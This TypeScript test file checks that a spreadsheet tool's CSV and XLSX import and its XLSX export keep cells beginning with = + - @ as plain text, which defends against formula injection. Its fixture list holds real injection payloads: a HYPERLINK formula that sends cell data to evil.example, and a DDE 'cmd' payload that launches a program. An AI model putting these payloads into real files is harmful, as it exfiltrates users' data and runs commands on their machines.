/**
 * An import never turns a user's text into a formula: CSV (and XLSX) cells starting with = + - @
 * land as the text they were, unless the user ticked "formulas"; and the XLSX export writes such
 * text as a text cell. Checked on the built bundle in the emulator, and the export with ExcelJS.
 */
import ExcelJS from 'exceljs';
import { exportXlsx } from '../../playground/export-xlsx';
import { applyImport } from '../../playground/import/apply-import';
import { readImport } from '../../playground/import/read-import';
import { loadedEmulator } from '../helpers/workbook';
import { text, xlsx } from './xlsx-fixture';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  "'quoted",
];
const csvField = (s: string): string => `"${s.replace(/"/g, '""')}"`;
const csvFile = `Deal,Stage,Value,Next Step\n${HOSTILE.map((h, i) => `${csvField(h)},Proposal,${i === 2 ? '-500' : 100},${i === 0 ? '=1+1' : ''}`).join('\n')}\n`;

function imported(bytes: Buffer, name: string, formulas: boolean): { values: unknown[][]; formulas: string[][] } {
  const emu = loadedEmulator();
  const plan = readImport(emu, { name, bytes, formulas });
  applyImport(emu, plan);
  return emu.counter.quiet(() => {
    const range = emu.book.getSheetByName('Deals')!.getDataRange();
    return { values: range.getValues(), formulas: range.getFormulas() };
  });
}
const column = (grid: unknown[][], header: string): unknown[] => {
  const c = (grid[0] as unknown[]).indexOf(header);
  return grid.slice(1).map((r) => r[c]);
};

test('CSV cells starting with = + - @ (or an apostrophe) are imported as exactly that text; plain numbers stay numbers', () => {
  const { values, formulas } = imported(Buffer.from(csvFile), 'deals.csv', false);
  expect(column(values, 'Deal')).toEqual(HOSTILE);
  expect(formulas.flat().filter((f) => f !== '')).toEqual([]);
  expect(column(values, 'Next Step')[0]).toBe('=1+1');
  expect(column(values, 'Value')).toEqual([100, 100, -500, 100, 100]);
});

test('with "formulas" ticked, a CSV cell starting with = becomes a formula; + - @ text stays text', () => {
  const { values, formulas } = imported(Buffer.from(csvFile), 'deals.csv', true);
  const header = values[0] as unknown[];
  const formulaCells = formulas.flatMap((row, r) => row.flatMap((f, c) => (f ? [[String(header[c]), r, f]] : [])));
  expect(formulaCells).toEqual([
    ['Deal', 1, HOSTILE[0]],
    ['Next Step', 1, '=1+1'],
  ]);
  expect(column(values, 'Deal').slice(1)).toEqual(HOSTILE.slice(1));
});

test('XLSX text cells starting with = stay text whether or not "formulas" is ticked', () => {
  const file = xlsx(
    `<row r="1">${text('A1', 'Deal')}${text('B1', 'Stage')}</row><row r="2">${text('A2', HOSTILE[0] as string)}${text('B2', 'Proposal')}</row>`,
  );
  for (const formulas of [false, true]) {
    const got = imported(file, 'deals.xlsx', formulas);
    expect(column(got.values, 'Deal')).toEqual([HOSTILE[0]]);
    expect(got.formulas.flat().filter((f) => f !== '')).toEqual([]);
  }
});

test('the XLSX export writes text starting with = + - @ as text cells, and only real formulas as formulas', async () => {
  const emu = loadedEmulator();
  emu.counter.quiet(() => {
    const s = emu.book.insertSheet('Notes');
    HOSTILE.forEach((h, i) => s.getRange(i + 1, 1).setValue(`'${h}`));
    s.getRange(1, 2).setValue('=1+2');
  });
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await exportXlsx(emu)) as unknown as ArrayBuffer);
  const ws = book.getWorksheet('Notes')!;
  HOSTILE.forEach((h, i) => {
    const cell = ws.getCell(i + 1, 1);
    expect({ value: cell.value, formula: cell.formula ?? null }).toEqual({ value: h, formula: null });
    expect(cell.type).toBe(ExcelJS.ValueType.String);
  });
  expect(ws.getCell(1, 2).formula).toBe('1+2');
});
